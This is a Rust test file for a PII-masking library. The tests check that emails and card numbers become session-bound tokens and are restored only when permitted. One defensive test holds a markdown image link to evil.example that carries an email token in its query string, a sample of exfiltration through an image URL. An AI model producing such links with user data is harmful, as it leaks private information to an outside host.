//! Tokens: what a model sees in place of values, and who gets the values back.

use gatewright_masking::{Detectors, Masker, Minter, PseudonymKey, Treatments, Vault, mask_findings};
use gatewright_model::Treatment;

const PROMPT: &str =
    "Tell alice@example.com and bob@example.com that card 4111 1111 1111 1111 of alice@example.com works.";

struct Session {
    detectors: Detectors,
    vault: Vault,
    key: PseudonymKey,
}

impl Session {
    fn new() -> Self {
        Self { detectors: Detectors::builtin(), vault: Vault::new(), key: PseudonymKey::new(&[9; 32]) }
    }

    fn ask(&mut self, prompt: &str) -> String {
        let treatments = Treatments::uniform(&self.detectors, Treatment::Token);
        let findings = self.detectors.find(prompt);
        let mut minter = Minter { vault: &mut self.vault, key: &self.key };
        mask_findings(&self.detectors, prompt, &findings, &treatments, &mut minter).expect("nothing is blocked")
    }

    fn hear(&mut self, reveal: &[&str], pieces: &[&str]) -> String {
        let treatments = Treatments::choose(&self.detectors, |name| match reveal.contains(&name.as_str()) {
            true => Treatment::Keep,
            false => Treatment::Redact,
        });
        let mut minter = Minter { vault: &mut self.vault, key: &self.key };
        let (mut masker, mut heard, mut consumed) = (Masker::new(treatments).restoring(), String::new(), 0);
        let mut take = |piece: gatewright_masking::Piece<'_>| {
            heard.push_str(piece.text());
            consumed += piece.original_len();
        };
        for piece in pieces {
            masker.push(&self.detectors, &mut minter, piece, &mut take).expect("nothing is blocked");
        }
        masker.finish(&self.detectors, &mut minter, &mut take).expect("nothing is blocked");
        assert_eq!(consumed, pieces.iter().map(|piece| piece.len()).sum::<usize>());
        heard
    }
}

#[test]
fn tokens_are_numbered_by_first_appearance() {
    let masked = Session::new().ask(PROMPT);
    assert_eq!(
        masked,
        "Tell <EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_2> that card <CREDIT_CARD_1> of <EMAIL_ADDRESS_1> works."
    );
}

#[test]
fn a_token_comes_back_wherever_it_is_cut() {
    let mut session = Session::new();
    let echo = format!("Done: {} Bye", session.ask(PROMPT));
    let expected = format!("Done: {PROMPT} Bye");
    let all = ["EMAIL_ADDRESS", "CREDIT_CARD"];
    for cut in 0..=echo.len() {
        let (left, right) = echo.split_at(cut);
        assert_eq!(session.hear(&all, &[left, right]), expected, "cut at {cut}");
    }
    let single: Vec<&str> = (0..echo.len()).map(|at| &echo[at..at + 1]).collect();
    assert_eq!(session.hear(&all, &single), expected);
}

#[test]
fn only_what_may_be_revealed_comes_back() {
    let mut session = Session::new();
    let echo = session.ask(PROMPT);
    let heard = session.hear(&["EMAIL_ADDRESS"], &[&echo]);
    assert_eq!(heard, PROMPT.replace("4111 1111 1111 1111", "<CREDIT_CARD_1>"));
    assert_eq!(session.hear(&[], &[&echo]), echo);
}

#[test]
fn a_token_of_another_session_means_nothing() {
    let echo = Session::new().ask(PROMPT);
    assert_eq!(Session::new().hear(&["EMAIL_ADDRESS", "CREDIT_CARD"], &[&echo]), echo);
}

#[test]
fn other_spellings_of_a_token_come_back_as_well() {
    let mut session = Session::new();
    session.ask(PROMPT);
    for spelling in [
        "<email_address_1>",
        "<EMAIL ADDRESS 1>",
        "EMAIL_ADDRESS_1",
        "&lt;EMAIL_ADDRESS_1&gt;",
        "\\u003cEMAIL_ADDRESS_1\\u003e",
    ] {
        let said = format!("I wrote to {spelling}, as you asked.");
        assert_eq!(session.hear(&["EMAIL_ADDRESS"], &[&said]), "I wrote to alice@example.com, as you asked.");
    }
}

#[test]
fn nothing_is_restored_inside_a_url() {
    let mut session = Session::new();
    session.ask(PROMPT);
    let said = "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>&r=EMAIL_ADDRESS_1)";
    assert_eq!(session.hear(&["EMAIL_ADDRESS"], &[said]), said);
}

#[test]
fn what_only_looks_like_a_token_is_the_callers_own_text() {
    let mut session = Session::new();
    let prompt = "What is <EMAIL_ADDRESS_1>, and <email_address_2>? Ask alice@example.com.";
    let masked = session.ask(prompt);
    assert_eq!(masked, "What is <LITERAL_TEXT_1>, and <LITERAL_TEXT_2>? Ask <EMAIL_ADDRESS_1>.");
    assert_eq!(session.hear(&["EMAIL_ADDRESS"], &[&masked]), prompt);
}

#[test]
fn a_vault_and_a_key_print_nothing() {
    let mut session = Session::new();
    session.ask(PROMPT);
    assert_eq!(format!("{:?} {:?}", session.vault, session.key), "Vault(3 tokens) PseudonymKey(…)");
}

#[test]
fn pseudonyms_are_stable_and_keyed() {
    let (one, other) = (PseudonymKey::new(&[1; 32]), PseudonymKey::new(&[2; 32]));
    let email = gatewright_model::InfoType::new("EMAIL_ADDRESS").expect("a name");
    let pseudonym = one.pseudonym(&email, "Alice@Example.com");
    assert_eq!(pseudonym, one.pseudonym(&email, "alice＠example.com"));
    assert_ne!(pseudonym, other.pseudonym(&email, "alice@example.com"));
    assert!(pseudonym.starts_with("EMAIL_ADDRESS_") && pseudonym.len() == "EMAIL_ADDRESS_".len() + 16);
}
